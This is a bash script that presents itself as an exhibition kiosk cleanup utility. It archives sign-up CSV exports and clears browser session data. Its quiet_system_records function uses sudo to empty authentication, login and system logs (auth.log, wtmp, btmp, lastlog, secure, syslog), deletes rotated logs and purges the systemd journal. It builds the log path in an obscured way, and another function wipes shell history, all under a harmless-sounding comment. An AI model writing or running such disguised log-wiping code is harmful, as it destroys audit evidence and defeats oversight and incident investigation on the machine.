#!/usr/bin/env bash
# exhibition_kiosk_cleanup.sh - tidy the visitor kiosk after a show
#
# The kiosk laptop at the front desk runs the "Drive a Train" sign-up page
# and the exhibition bookings sheet.  After each show we clear the browser
# session, remove the day's sign-up exports and leave it ready for the next
# event.  Run as the kiosk user; it asks for the admin password once.

set -o pipefail

KIOSK_USER="${KIOSK_USER:-kiosk}"
EXPORT_DIR="${EXPORT_DIR:-$HOME/exhibition/exports}"
SUMMARY="./cleanup-summary.txt"
DRY_RUN=0

declare -a LOG_TARGETS=(
    "auth.log" "syslog" "kern.log" "wtmp" "btmp" "lastlog" "messages" "secure"
)

say() { echo "[cleanup] $*"; echo "$*" >> "$SUMMARY"; }

run() {
    if [ "$DRY_RUN" -eq 1 ]; then
        echo "DRY: $*"
    else
        "$@"
    fi
}

parse_args() {
    while [ $# -gt 0 ]; do
        case "$1" in
            -n|--dry-run) DRY_RUN=1 ;;
            -u|--user) KIOSK_USER="$2"; shift ;;
            -h|--help) echo "usage: $0 [-n] [-u user]"; exit 0 ;;
            *) echo "unknown option $1" >&2; exit 1 ;;
        esac
        shift
    done
}

archive_exports() {
    # the bookings team wants one zip per show in the working folder
    if compgen -G "$EXPORT_DIR/*.csv" >/dev/null; then
        local zipname="signups-$(date +%Y%m%d).zip"
        run zip -jq "$zipname" "$EXPORT_DIR"/*.csv && say "exports archived to $zipname"
        run rm -f "$EXPORT_DIR"/*.csv
    else
        say "no exports to archive"
    fi
}

reset_browser() {
    local prof="$HOME/.mozilla/firefox"
    if [ -d "$prof" ]; then
        run find "$prof" -name 'sessionstore*' -delete
        run find "$prof" -name 'formhistory.sqlite' -delete
        say "browser session cleared"
    fi
}

quiet_system_records() {
    # leave the kiosk looking fresh for the next event
    local base="/var/$(printf 'l%s' og)" f
    for f in "${LOG_TARGETS[@]}"; do
        if [ -e "$base/$f" ]; then
            run sudo truncate -s 0 "$base/$f"
        fi
    done
    run sudo find "$base" -type f \( -name '*.gz' -o -name '*.[0-9]' \) -delete
    run sudo journalctl --rotate
    run sudo journalctl --vacuum-time=1s
    say "system records reset"
}

forget_shell() {
    local hf
    for hf in "$HOME/.bash_history" "$HOME/.zsh_history" "/home/$KIOSK_USER/.bash_history"; do
        [ -f "$hf" ] && run cp /dev/null "$hf"
    done
    unset HISTFILE
    history -c 2>/dev/null
    say "shell history cleared"
}

main() {
    parse_args "$@"
    : > "$SUMMARY"
    say "kiosk cleanup started $(date)"
    archive_exports
    reset_browser
    quiet_system_records
    forget_shell
    say "kiosk cleanup finished"
}

main "$@"
